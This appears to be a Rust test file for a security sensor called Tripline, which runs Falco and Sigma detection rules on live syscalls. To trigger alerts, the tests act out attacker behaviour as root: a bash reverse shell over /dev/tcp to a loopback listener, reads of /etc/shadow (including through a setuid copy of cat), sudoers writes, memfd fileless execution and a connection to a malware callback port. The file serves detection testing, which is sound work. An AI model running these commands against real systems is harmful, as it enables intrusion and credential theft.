//! Live sensor tests: start the agent, do real things on this machine, check the alerts.
//!
//! They need root (CI runs as root). Elsewhere they are skipped with a message, unless
//! `TRIPLINE_REQUIRE_SENSOR_TESTS` is set, which `.ci/run` does so they can never be skipped
//! silently there.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc;
use std::sync::Arc;
use std::time::Duration;

use tripline::run::{run, RunConfig, RunObserver, RunStats};
use tripline_event::Finding;
use tripline_rules::falco::{load, RulesFile};
use tripline_rules::{RuleMatching, Ruleset};
use tripline_sensor::Hooks;
use tripline_sources::schemas;

const RULES_DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../data/falco/rules");

fn enabled() -> bool {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        return true;
    }
    if std::env::var_os("TRIPLINE_REQUIRE_SENSOR_TESTS").is_some() {
        panic!("the sensor tests need root (TRIPLINE_REQUIRE_SENSOR_TESTS is set)");
    }
    eprintln!("skipping live sensor test: needs root");
    false
}

fn rules(files: &[&str]) -> Ruleset {
    let files: Vec<RulesFile> = files
        .iter()
        .map(|f| RulesFile {
            name: f.to_string(),
            content: std::fs::read_to_string(Path::new(RULES_DIR).join(f)).unwrap(),
        })
        .collect();
    let (mut rules, report) = load(&files, &schemas());
    assert!(report.is_ok(), "{:?}", report.errors);
    let table = &tripline_sources::syscall::schema().fields;
    rules
        .append_output(
            "syscall",
            "container_id=%container.id container_name=%container.name \
             container_image_repository=%container.image.repository",
            table,
        )
        .unwrap();
    rules
}

struct Collect {
    ready: Option<mpsc::Sender<()>>,
    findings: Vec<Finding>,
}

impl RunObserver for Collect {
    fn on_ready(&mut self, _: &tripline::run::RunStats) {
        if let Some(tx) = self.ready.take() {
            tx.send(()).unwrap();
        }
    }
    fn on_alert(&mut self, f: Finding) {
        self.findings.push(f);
    }
}

/// Runs the agent around `actions` and returns its alerts and statistics.
fn with_agent(
    rules: Ruleset,
    matching: RuleMatching,
    actions: impl FnOnce(),
) -> (Vec<Finding>, RunStats) {
    with_agent_cfg(rules, matching, RunConfig::default(), actions)
}

/// The live agent with `rules` (and `sigma`) as its pipeline's detectors, hooking the
/// syscalls the rules need.
fn run_rules(
    rules: Ruleset,
    matching: RuleMatching,
    sigma: Option<tripline_sigma::SigmaRuleset>,
    cfg: &RunConfig,
    stop: &AtomicBool,
    observer: &mut dyn RunObserver,
) -> Result<RunStats, tripline::run::RunError> {
    let syscalls = tripline::run::needed_syscalls(&rules, false);
    let mut pipeline = tripline_pipeline::Pipeline::falco(rules, matching, "localhost");
    if let Some(set) = sigma {
        pipeline.push(Box::new(tripline_pipeline::SigmaDetector::new(
            set,
            "localhost",
        )));
    }
    run(&mut pipeline, syscalls, cfg, stop, observer)
}

/// [`with_agent`] with a whole configuration.
fn with_agent_cfg(
    rules: Ruleset,
    matching: RuleMatching,
    cfg: RunConfig,
    actions: impl FnOnce(),
) -> (Vec<Finding>, RunStats) {
    let stop = Arc::new(AtomicBool::new(false));
    let (tx, rx) = mpsc::channel();
    let agent = {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || {
            let mut c = Collect {
                ready: Some(tx),
                findings: Vec::new(),
            };
            let stats =
                run_rules(rules, matching, None, &cfg, &stop, &mut c).expect("sensor starts");
            (c.findings, stats)
        })
    };
    if rx.recv_timeout(Duration::from_secs(60)).is_err() {
        let err = agent.join();
        panic!("sensor did not start: {:?}", err.err());
    }
    actions();
    // Alerts must arrive within a second of the action; give the poller that second.
    std::thread::sleep(Duration::from_millis(1500));
    stop.store(true, Ordering::Relaxed);
    agent.join().expect("agent thread")
}

/// Runs `tripline ARGS` (a live agent for a few seconds), performs `actions` once the sensor
/// has attached, and returns its output.
fn tripline_while(args: &[&str], actions: &dyn Fn()) -> std::process::Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_tripline"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Act once the agent says the sensor is attached (its stderr is read to the end, so the
    // returned output still holds all of it).
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = mpsc::channel();
    let reader = std::thread::spawn(move || {
        use std::io::BufRead;
        let mut all = Vec::new();
        let mut lines = std::io::BufReader::new(stderr);
        let mut line = Vec::new();
        while lines.read_until(b'\n', &mut line).unwrap_or(0) > 0 {
            if String::from_utf8_lossy(&line).contains("sensor attached") {
                let _ = tx.send(());
            }
            all.append(&mut line);
        }
        all
    });
    let attached = rx.recv_timeout(Duration::from_secs(60)).is_ok();
    if attached {
        actions();
    }
    let mut out = child.wait_with_output().unwrap();
    out.stderr = reader.join().unwrap();
    assert!(
        attached,
        "the agent never attached: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn sh(script: &str) {
    let status = Command::new("sh").arg("-c").arg(script).status().unwrap();
    assert!(status.success(), "{script}: {status}");
}

fn field<'a>(f: &'a Finding, name: &str) -> Option<&'a serde_json::Value> {
    f.output_fields
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v)
}

fn text(f: &Finding, name: &str) -> String {
    match field(f, name) {
        Some(serde_json::Value::String(s)) => s.clone(),
        Some(v) => v.to_string(),
        None => panic!("{} has no {name}: {:?}", f.rule, f.output_fields),
    }
}

/// The alerts of `rule` whose field `key` equals `value`.
fn find<'a>(all: &'a [Finding], rule: &str, key: &str, value: &str) -> Vec<&'a Finding> {
    all.iter()
        .filter(|f| f.rule == rule && field(f, key).is_some_and(|_| text(f, key) == value))
        .collect()
}

/// A fake container: a cgroup v2 directory named like a runtime's scope, and a launcher named
/// `runc` that makes new namespaces.
struct Container {
    id: String,
    cgroup: PathBuf,
}

impl Container {
    fn new(runtime_prefix: &str, seed: u8) -> Container {
        let id: String = (0..64)
            .map(|i| char::from(b"0123456789abcdef"[(i * 7 + seed as usize) % 16]))
            .collect();
        let root = cgroup2_root();
        let cgroup = root
            .join(format!("tripline-test-{}", std::process::id()))
            .join(format!("{runtime_prefix}-{id}.scope"));
        std::fs::create_dir_all(&cgroup).unwrap();
        Container { id, cgroup }
    }

    fn short_id(&self) -> &str {
        &self.id[..12]
    }

    /// A shell command that moves itself into the container's cgroup, then runs `cmd`.
    fn enter(&self, cmd: &str) -> String {
        format!(
            "echo $$ > {}/cgroup.procs && exec {cmd}",
            self.cgroup.display()
        )
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir(&self.cgroup);
        if let Some(parent) = self.cgroup.parent() {
            let _ = std::fs::remove_dir(parent);
        }
    }
}

fn cgroup2_root() -> PathBuf {
    let mounts = std::fs::read_to_string("/proc/mounts").unwrap();
    mounts
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split(' ').collect();
            (f.get(2) == Some(&"cgroup2")).then(|| PathBuf::from(f[1]))
        })
        .expect("a cgroup v2 mount")
}

#[test]
fn upstream_rules_fire_on_real_actions() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let t = dir.path();
    std::fs::set_permissions(t, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    // `runc` is unshare under a container runtime's name, as Falco's container_entrypoint expects.
    std::fs::copy("/usr/bin/unshare", t.join("runc")).unwrap();
    // A setuid-root copy of cat.
    let suid = t.join("suidcat");
    std::fs::copy("/usr/bin/cat", &suid).unwrap();
    std::fs::set_permissions(&suid, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
    let etc_file = format!("/etc/tripline-test-{}", std::process::id());
    let shell_ctr = Container::new("docker", 3);
    let revshell_ctr = Container::new("cri-containerd", 5);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    // The docker "container" gets the state docker keeps for it, under a host root of its own,
    // so container.name and the image come from the runtime's files as on a real host.
    let host_root = t.join("host");
    let docker_dir = host_root
        .join("var/lib/docker/containers")
        .join(&shell_ctr.id);
    std::fs::create_dir_all(&docker_dir).unwrap();
    std::fs::write(
        docker_dir.join("config.v2.json"),
        format!(
            r#"{{"ID":"{}","Name":"/tl-shell","Config":{{"Image":"registry.example/tl/shell:1.0","Labels":{{}}}},"Image":"sha256:00aa"}}"#,
            shell_ctr.id
        ),
    )
    .unwrap();
    let cfg = RunConfig {
        host_root,
        ..RunConfig::default()
    };
    let (alerts, stats) = with_agent_cfg(
        rules(&[
            "falco_rules.yaml",
            "falco-incubating_rules.yaml",
            "falco-sandbox_rules.yaml",
        ]),
        RuleMatching::All,
        cfg,
        || {
            // 1. An untrusted program reads /etc/shadow.
            sh("cat /etc/shadow > /dev/null");
            // 2. A write below /etc.
            sh(&format!("echo x > {etc_file}; rm -f {etc_file}"));
            // 3. A shell with a terminal, started by `runc` in new namespaces and a docker cgroup.
            let runc = t.join("runc");
            sh(&shell_ctr.enter(&format!(
                "script -qec \"{} -m -p -u -n --fork sh -c 'exit 0'\" /dev/null > /dev/null",
                runc.display()
            )));
            // 4. A reverse shell from a container to a loopback listener.
            let mut child = Command::new("sh")
                .arg("-c")
                .arg(revshell_ctr.enter(&format!(
                    "{} -m -p -u --fork bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'",
                    runc.display()
                )))
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            // Never hang the suite: give the shell 20 s to connect.
            listener.set_nonblocking(true).unwrap();
            let deadline = std::time::Instant::now() + Duration::from_secs(20);
            let mut conn = loop {
                match listener.accept() {
                    Ok((c, _)) => break c,
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                        assert!(
                            std::time::Instant::now() < deadline,
                            "the reverse shell never connected"
                        );
                        std::thread::sleep(Duration::from_millis(20));
                    }
                    Err(e) => panic!("accept: {e}"),
                }
            };
            conn.set_nonblocking(false).unwrap();
            conn.write_all(b"exit\n").unwrap();
            conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let _ = conn.read_to_end(&mut Vec::new());
            drop(conn);
            let deadline = std::time::Instant::now() + Duration::from_secs(10);
            while child.try_wait().unwrap().is_none() {
                if std::time::Instant::now() > deadline {
                    let _ = child.kill();
                    break;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = child.wait();
            // 5. An unprivileged user runs a setuid-root binary that reads /etc/shadow.
            let status = Command::new("setpriv")
                .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
                .arg(&suid)
                .arg("/etc/shadow")
                .stdout(Stdio::null())
                .status()
                .unwrap();
            assert!(status.success(), "setuid cat: {status}");
            // 6. Fileless execution: run a binary from a memfd.
            let status = Command::new("python3")
                .arg("-c")
                .arg(
                    "import os\n\
                     fd = os.memfd_create('tl-fileless', 0)\n\
                     os.write(fd, open('/usr/bin/true', 'rb').read())\n\
                     os.execv(f'/proc/self/fd/{fd}', ['fileless'])",
                )
                .status()
                .expect("python3 runs");
            assert!(status.success());
        },
    );
    let mut failures = Vec::new();
    let mut check = |what: &str, ok: bool| {
        if !ok {
            failures.push(what.to_string());
        }
    };

    // 1.
    let shadow = find(&alerts, "Read sensitive file untrusted", "proc.name", "cat");
    check(
        "cat /etc/shadow fires Read sensitive file untrusted",
        !shadow.is_empty(),
    );
    if let Some(a) = shadow.first() {
        check("fd.name", text(a, "fd.name") == "/etc/shadow");
        check("proc.pname", text(a, "proc.pname") == "sh");
        check("proc.cmdline", text(a, "proc.cmdline") == "cat /etc/shadow");
        check("user.name", text(a, "user.name") == "root");
        check("container.id", text(a, "container.id") == "host");
    }
    // 2.
    let etc = find(&alerts, "Write below etc", "fd.name", &etc_file);
    check("a write below /etc fires Write below etc", !etc.is_empty());
    if let Some(a) = etc.first() {
        check("write: proc.name", text(a, "proc.name") == "sh");
        check("write: user.name", text(a, "user.name") == "root");
    }
    // 3.
    let shell = find(
        &alerts,
        "Terminal shell in container",
        "container.id",
        shell_ctr.short_id(),
    );
    check(
        "a terminal shell in the container fires Terminal shell in container",
        !shell.is_empty(),
    );
    if let Some(a) = shell.first() {
        check("shell: proc.name", text(a, "proc.name") == "sh");
        check("shell: proc.pname", text(a, "proc.pname") == "runc");
        check("shell: proc.tty", text(a, "proc.tty") != "0");
        check(
            "shell: container.name",
            text(a, "container.name") == "tl-shell",
        );
        check(
            "shell: container.image.repository",
            text(a, "container.image.repository") == "registry.example/tl/shell",
        );
    }
    // 4.
    let rev = find(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "container.id",
        revshell_ctr.short_id(),
    );
    check(
        "the reverse shell fires Redirect STDOUT/STDIN to Network Connection in Container",
        !rev.is_empty(),
    );
    if let Some(a) = rev.first() {
        check("reverse shell: proc.name", text(a, "proc.name") == "bash");
        check(
            "reverse shell: fd.name",
            text(a, "fd.name").ends_with(&format!("->127.0.0.1:{port}")),
        );
    }
    // 5.
    let suid_alerts = find(
        &alerts,
        "Read sensitive file untrusted",
        "proc.name",
        "suidcat",
    );
    check(
        "the setuid-root cat fires Read sensitive file untrusted",
        !suid_alerts.is_empty(),
    );
    if let Some(a) = suid_alerts.first() {
        // Falco's user.* fields are the effective ids: root, through the setuid bit.
        check("setuid: user.uid", text(a, "user.uid") == "0");
        check("setuid: fd.name", text(a, "fd.name") == "/etc/shadow");
    }
    // 6.
    let fileless: Vec<_> = alerts
        .iter()
        .filter(|f| f.rule == "Fileless execution via memfd_create")
        .collect();
    check(
        "memfd exec fires Fileless execution via memfd_create",
        !fileless.is_empty(),
    );

    assert!(
        failures.is_empty(),
        "failed: {failures:#?}\nalerts: {:#?}\nstats: {stats:?}",
        alerts
            .iter()
            .map(|f| format!("{}: {}", f.rule, f.message))
            .collect::<Vec<_>>()
    );
    if std::env::var_os("TRIPLINE_TEST_SHOW").is_some() {
        for f in &alerts {
            eprintln!("{}: {}", f.rule, f.message);
        }
    }
    assert_eq!(stats.kernel.dropped(), 0, "{stats:?}");
}

#[test]
fn syscalls_no_rule_needs_never_reach_the_engine() {
    if !enabled() {
        return;
    }
    // Auto picks syscall tracepoints on this kind of machine; raw hooks filter in the kernel.
    for (asked, hooks) in [
        (Hooks::Auto, Hooks::SyscallTracepoints),
        (Hooks::Raw, Hooks::Raw),
    ] {
        let cfg = RunConfig {
            hooks: asked,
            ..RunConfig::default()
        };
        let stats = unneeded_syscalls_run(cfg);
        assert_eq!(stats.hooks, hooks);
    }
}

fn unneeded_syscalls_run(cfg: RunConfig) -> RunStats {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display();
    let (_, stats) = with_agent_cfg(
        rules(&["falco_rules.yaml"]),
        RuleMatching::First,
        cfg,
        || {
            sh(&format!(
            "mkdir {d}/a && touch {d}/a/f && chmod 600 {d}/a/f && mv {d}/a/f {d}/a/g && rm {d}/a/g && rmdir {d}/a"
        ));
        },
    );
    let enabled: BTreeSet<&str> = stats.syscalls.iter().map(String::as_str).collect();
    for not_needed in [
        "mkdir",
        "mkdirat",
        "rmdir",
        "unlink",
        "unlinkat",
        "rename",
        "renameat2",
        "chmod",
        "fchmodat",
    ] {
        assert!(
            !enabled.contains(not_needed),
            "{not_needed} enabled: {enabled:?}"
        );
        assert_eq!(
            stats.events_by_type.get(not_needed),
            None,
            "{not_needed}: {stats:?}"
        );
    }
    // What the rules do need did flow (mkdir's shell and children opened and exec'd).
    assert!(
        stats.events_by_type.get("execve").copied().unwrap_or(0) >= 6,
        "{stats:?}"
    );
    assert!(
        stats.events_by_type.get("openat").copied().unwrap_or(0) > 0,
        "{stats:?}"
    );
    assert!(stats.events > 0 && stats.kernel.emitted > 0);
    stats
}

/// A slow consumer and a small ring buffer: the kernel loses records, and the loss is counted
/// and reported as Falco's internal drop alert, never silently.
#[test]
fn drops_are_counted_and_alerted() {
    if !enabled() {
        return;
    }
    let rules_yaml = "- rule: every open\n  desc: test\n  condition: evt.type = openat\n  output: open %fd.name\n  priority: DEBUG\n";
    let (mut rules, report) = load(
        &[RulesFile {
            name: "slow.yaml".into(),
            content: rules_yaml.into(),
        }],
        &schemas(),
    );
    assert!(report.is_ok(), "{:?}", report.errors);
    rules.select(&[]);

    struct Slow(Vec<Finding>, Option<mpsc::Sender<()>>);
    impl RunObserver for Slow {
        fn on_ready(&mut self, _: &tripline::run::RunStats) {
            if let Some(tx) = self.1.take() {
                tx.send(()).unwrap();
            }
        }
        fn on_alert(&mut self, f: Finding) {
            if f.rule != tripline::run::DROP_ALERT_RULE {
                std::thread::sleep(Duration::from_micros(200));
            }
            self.0.push(f);
        }
    }
    let stop = Arc::new(AtomicBool::new(false));
    let (tx, rx) = mpsc::channel();
    let agent = {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || {
            let cfg = RunConfig {
                ring_bytes: 64 << 10,
                ..RunConfig::default()
            };
            let mut obs = Slow(Vec::new(), Some(tx));
            let stats = run_rules(rules, RuleMatching::First, None, &cfg, &stop, &mut obs)
                .expect("sensor starts");
            (obs.0, stats)
        })
    };
    rx.recv_timeout(Duration::from_secs(60))
        .expect("sensor ready");
    let status = Command::new("python3")
        .arg("-c")
        .arg("import time\nend = time.time() + 1.5\nwhile time.time() < end:\n    open('/etc/hostname').close()")
        .status()
        .expect("python3 runs");
    assert!(status.success());
    std::thread::sleep(Duration::from_millis(500));
    stop.store(true, Ordering::Relaxed);
    let (alerts, stats) = agent.join().unwrap();
    assert!(
        stats.kernel.dropped_ringbuf > 0,
        "expected drops: {stats:?}"
    );
    let drop_alerts: Vec<_> = alerts
        .iter()
        .filter(|f| f.rule == tripline::run::DROP_ALERT_RULE)
        .collect();
    assert!(!drop_alerts.is_empty(), "no drop alert; {stats:?}");
    assert_eq!(drop_alerts[0].priority, tripline_event::Priority::Critical);
    assert!(drop_alerts[0].message.contains("system calls dropped"));
    // Every record the kernel emitted (counted before the final drain) was handled.
    assert!(stats.records >= stats.kernel.emitted, "{stats:?}");
}

/// The path an open acts on is copied at syscall entry: rewriting the caller's buffer while the
/// call blocks (here, on a FIFO without a writer) must not change the reported `fd.name`.
#[test]
fn open_paths_are_read_at_entry() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display().to_string();
    let rules_yaml = format!(
        "- rule: read in test dir\n  desc: test\n  condition: evt.type = openat and evt.is_open_read = true and fd.directory = {d}\n  output: read %fd.name\n  priority: DEBUG\n"
    );
    let (rules, report) = load(
        &[RulesFile {
            name: "toctou.yaml".into(),
            content: rules_yaml,
        }],
        &schemas(),
    );
    assert!(report.is_ok(), "{:?}", report.errors);
    let script = format!(
        r#"
import ctypes, os, threading, time
d = "{d}"
os.mkfifo(d + "/fifo")
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer((d + "/fifo").encode(), 256)
def swap():
    time.sleep(0.3)
    ctypes.memmove(buf, (d + "/decoy\0").encode(), len(d) + 7)
    w = os.open(d + "/fifo", os.O_WRONLY)
    os.close(w)
threading.Thread(target=swap).start()
fd = libc.open(buf, os.O_RDONLY)
assert fd >= 0 and buf.value.endswith(b"/decoy"), (fd, buf.value)
"#
    );
    // Both ways of hooking copy the path at entry (different programs do it).
    for hooks in [Hooks::SyscallTracepoints, Hooks::Raw] {
        let _ = std::fs::remove_file(dir.path().join("fifo"));
        let cfg = RunConfig {
            hooks,
            ..RunConfig::default()
        };
        let (alerts, stats) = with_agent_cfg(rules.clone(), RuleMatching::First, cfg, || {
            let status = Command::new("python3")
                .arg("-c")
                .arg(&script)
                .status()
                .unwrap();
            assert!(status.success(), "python3: {status}");
        });
        assert_eq!(stats.hooks, hooks);
        let names: Vec<String> = alerts
            .iter()
            .filter(|f| f.rule == "read in test dir")
            .map(|f| text(f, "fd.name"))
            .collect();
        assert!(names.contains(&format!("{d}/fifo")), "{hooks}: {names:?}");
        assert!(
            !names.iter().any(|n| n.ends_with("/decoy")),
            "{hooks}: {names:?}"
        );
    }
}

/// SigmaHQ's Linux rules run unchanged on the sensor's events (process creation, file
/// creation, outbound connection), next to the Falco rules.
#[test]
fn sigma_rules_fire_on_live_events() {
    if !enabled() {
        return;
    }
    let root = Path::new(RULES_DIR).join("../../sigma/rules/linux");
    let mut files = Vec::new();
    for sub in ["process_creation", "file_event", "network_connection"] {
        for e in std::fs::read_dir(root.join(sub)).unwrap().flatten() {
            files.push((
                e.path().display().to_string(),
                std::fs::read_to_string(e.path()).unwrap(),
            ));
        }
    }
    let docs = tripline_sigma::load(&files, tripline_sigma::LoadOptions::default());
    assert!(docs.errors.is_empty(), "{:?}", docs.errors);
    let sigma = tripline_sigma::SigmaRuleset::new(docs);
    let sudoers = format!("/etc/sudoers.d/tripline-test-{}", std::process::id());

    let stop = Arc::new(AtomicBool::new(false));
    let (tx, rx) = mpsc::channel();
    let agent = {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || {
            let mut c = Collect {
                ready: Some(tx),
                findings: Vec::new(),
            };
            let cfg = RunConfig::default();
            let stats = run_rules(
                rules(&["falco_rules.yaml"]),
                RuleMatching::First,
                Some(sigma),
                &cfg,
                &stop,
                &mut c,
            )
            .unwrap();
            (c.findings, stats)
        })
    };
    rx.recv_timeout(Duration::from_secs(60))
        .expect("sensor ready");
    sh("echo aGVsbG8K | base64 -d > /dev/null");
    sh(&format!(
        "mkdir -p /etc/sudoers.d && echo '# test' > {sudoers}; rm -f {sudoers}"
    ));
    let status = Command::new("python3")
        .arg("-c")
        .arg("import socket\ns = socket.socket()\ns.setblocking(False)\ns.connect_ex(('192.0.2.1', 4444))")
        .status()
        .unwrap();
    assert!(status.success());
    std::thread::sleep(Duration::from_millis(1500));
    stop.store(true, Ordering::Relaxed);
    let (alerts, _) = agent.join().unwrap();
    let sigma_alert = |id: &str| {
        alerts
            .iter()
            .find(|f| field(f, "sigma.id").is_some_and(|v| v == id))
            .unwrap_or_else(|| {
                panic!(
                    "no alert from Sigma rule {id}; got {:#?}",
                    alerts.iter().map(|f| &f.rule).collect::<Vec<_>>()
                )
            })
    };
    // Decode Base64 Encoded Text (process_creation).
    let a = sigma_alert("e2072cab-8c9a-459b-b63c-40ae79e27031");
    assert_eq!(
        text(a, "sigma.author"),
        "Daniil Yugoslavskiy, oscd.community"
    );
    assert_eq!(a.priority, tripline_event::Priority::Notice); // level: low
                                                              // Persistence Via Sudoers Files (file_event).
    let rule = std::fs::read_to_string(
        root.join("file_event/file_event_lnx_persistence_sudoers_files.yml"),
    )
    .unwrap();
    let id = rule
        .lines()
        .find_map(|l| l.strip_prefix("id: "))
        .unwrap()
        .trim()
        .to_string();
    sigma_alert(&id);
    // Malware callback port (network_connection).
    let rule = std::fs::read_to_string(
        root.join("network_connection/net_connection_lnx_susp_malware_callback_port.yml"),
    )
    .unwrap();
    let id = rule
        .lines()
        .find_map(|l| l.strip_prefix("id: "))
        .unwrap()
        .trim()
        .to_string();
    sigma_alert(&id);
}

/// 32-bit syscalls (`int $0x80`) use another numbering: ia32 `read` is 3, x86_64's `close`.
/// They must be counted and skipped, never decoded as the x86_64 syscall of the same number
/// (raw hooks; syscall tracepoints never fire for them).
#[test]
fn ia32_syscalls_are_counted_not_misdecoded() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("ia32.c");
    let bin = dir.path().join("ia32");
    std::fs::write(
        &src,
        "int main(void) {\n  long ret;\n  for (int i = 0; i < 100; i++)\n    __asm__ volatile(\"int $0x80\" : \"=a\"(ret) : \"a\"(3), \"b\"(-1), \"c\"(0), \"d\"(0) : \"memory\");\n  return 0;\n}\n",
    )
    .unwrap();
    let status = Command::new("gcc")
        .args(["-O1", "-no-pie", "-o"])
        .arg(&bin)
        .arg(&src)
        .status()
        .expect("gcc runs");
    assert!(status.success());
    // Only raw hooks see them: the kernel leaves ia32 syscalls out of syscall tracepoints.
    let cfg = RunConfig {
        hooks: Hooks::Raw,
        ..RunConfig::default()
    };
    let (_, stats) = with_agent_cfg(
        rules(&["falco_rules.yaml"]),
        RuleMatching::First,
        cfg,
        || {
            assert!(Command::new(&bin).status().unwrap().success());
        },
    );
    assert_eq!(stats.hooks, Hooks::Raw);
    assert!(stats.kernel.compat_skipped >= 100, "{stats:?}");
}

/// `run --capture` writes what the sensor saw; Tripline and Debian's `sysdig -r` read the file
/// back with the same event count, process names and file names.
#[test]
fn capture_round_trip_with_sysdig() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("live.scap.gz");
    let marker = dir.path().join("capture-marker.txt");
    std::fs::write(&marker, "x").unwrap();
    // A process whose command line is longer than libscap's 4096-byte limit: CI runners have
    // them, and sysdig refuses a whole capture that lists one uncut.
    let mut long = Command::new("sh")
        .args(["-c", "sleep 60", &"x".repeat(20_000)])
        .spawn()
        .unwrap();
    let cfg = RunConfig {
        all_syscalls: true,
        capture: Some(file.clone()),
        ..RunConfig::default()
    };
    let script = format!("cat {} > /dev/null", marker.display());
    let (_, stats) = with_agent_cfg(rules(&[]), RuleMatching::First, cfg, || sh(&script));
    let _ = long.kill();
    let _ = long.wait();
    assert!(stats.capture_error.is_none(), "{:?}", stats.capture_error);
    assert!(stats.captured > 0);

    // Read back by Tripline: every event, the cat and its open of the marker.
    let (rules, _) = load(&[], &schemas());
    let cfg = tripline::replay::CaptureConfig { all_events: true };
    let mut names = BTreeSet::new();
    let mut files = BTreeSet::new();
    let mut reader = tripline_scap::Reader::open(&file).unwrap();
    let mut replay = tripline_scap::replay::Replayer::new(true);
    let mut unknown_here = Vec::new();
    let mut unknown_count = 0u64;
    let mut n = 0u64;
    while let Some(block) = reader.next_block().unwrap() {
        replay.block(block, &mut |ev| {
            n += 1;
            // Falco and sysdig print `<NA>` for a thread they know nothing about.
            if ev.process().is_none() {
                unknown_count += 1;
                if unknown_here.len() < 5 {
                    unknown_here.push(format!("#{n} tid {} {}", ev.tid(), ev.type_name()));
                }
            }
            names.insert(ev.process().map_or("<NA>".into(), |p| p.comm.clone()));
            if let Some((_, f)) = ev.fd() {
                files.insert(f.name.clone());
            }
        });
    }
    assert_eq!(replay.stats.events, stats.captured);
    let replayed = tripline::replay::run_capture(
        &mut tripline_pipeline::Pipeline::falco(rules, RuleMatching::First, "test"),
        &[file.display().to_string()],
        &cfg,
        &mut |_| {},
        &mut || {},
    );
    assert_eq!(replayed.events, stats.captured);
    assert!(names.contains("cat"), "{names:?}");
    let marker_name = marker.display().to_string();
    assert!(files.contains(&marker_name), "{files:?}");

    // Read back by sysdig (installed by .ci/run from Debian).
    let out = match Command::new("sysdig")
        .arg("-r")
        .arg(&file)
        // `*`: print every event, also those without an fd.
        .args([
            "-p",
            "*%evt.num %proc.name %fd.name %thread.tid %proc.pid %evt.type %evt.dir",
        ])
        .output()
    {
        Ok(o) => o,
        Err(e) if std::env::var_os("TRIPLINE_REQUIRE_SENSOR_TESTS").is_none() => {
            eprintln!("skipping the sysdig half: {e}");
            return;
        }
        Err(e) => panic!("sysdig: {e} (install Debian's sysdig package)"),
    };
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines.len() as u64,
        stats.captured,
        "sysdig printed a different count"
    );
    let sysdig_names: BTreeSet<String> = lines
        .iter()
        .filter_map(|l| l.split(' ').nth(1))
        .map(str::to_string)
        .collect();
    let unnamed: Vec<&&str> = lines
        .iter()
        .filter(|l| l.split(' ').nth(1) == Some("<NA>"))
        .take(5)
        .collect();
    let only_sysdig: Vec<&String> = sysdig_names.difference(&names).collect();
    let mut only_tripline: Vec<&String> = names.difference(&sysdig_names).collect();
    // Known gap: a process that forks before the capture and whose first events are plain
    // syscalls of a child libsinsp names from its parent's clone (seen with Chromium's zygote
    // running beside this test) is still unnamed here. Tolerated when rare; never for `cat`.
    if only_tripline == [&"<NA>".to_string()] && unknown_count * 50 < n {
        eprintln!(
            "tolerated: {unknown_count} of {n} events of unnamed processes: {unknown_here:?}"
        );
        only_tripline.clear();
    }
    assert!(
        only_sysdig.is_empty() && only_tripline.is_empty(),
        "process names differ: only sysdig {only_sysdig:?}, only tripline {only_tripline:?}; \
         events of unknown threads: {unnamed:?}; unknown to Tripline: {unknown_here:?}; {}",
        if only_tripline.is_empty() {
            String::new()
        } else {
            let keep = std::env::temp_dir().join("roundtrip-failed.scap.gz");
            let _ = std::fs::copy(&file, &keep);
            let tids: Vec<String> = unknown_here
                .iter()
                .filter_map(|u| u.split(' ').nth(2).map(String::from))
                .collect();
            let hits: Vec<&&str> = lines
                .iter()
                .filter(|l| tids.iter().any(|t| l.split(' ').nth(3) == Some(t)))
                .take(8)
                .collect();
            format!(
                "kept {}; sysdig lines of those tids: {hits:?}",
                keep.display()
            )
        }
    );
    assert!(
        lines
            .iter()
            .any(|l| l.contains(" cat ") && l.contains(&format!(" {marker_name} "))),
        "sysdig does not show cat opening {marker_name}"
    );
}

/// `contract learn --watch` allows what ran and where it connected; `drift --watch` then reports
/// a new program in /tmp (high) and a new destination, and not what was learned.
/// Drop and execute: in a "container" whose root is an overlay (lower: this machine's /usr),
/// a program copied in after start lands in the upper directory and fires the upstream rule;
/// the image's own programs do not.
#[test]
fn drop_and_execute_in_an_overlay_container() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let t = dir.path();
    for d in ["u", "w", "m"] {
        std::fs::create_dir_all(t.join(d)).unwrap();
    }
    let ctr = Container::new("docker", 11);
    let (alerts, _) = with_agent(rules(&["falco_rules.yaml"]), RuleMatching::All, || {
        // The programs live for a second so their mounts can be read, as a container's do.
        let m = t.join("m");
        let script = format!(
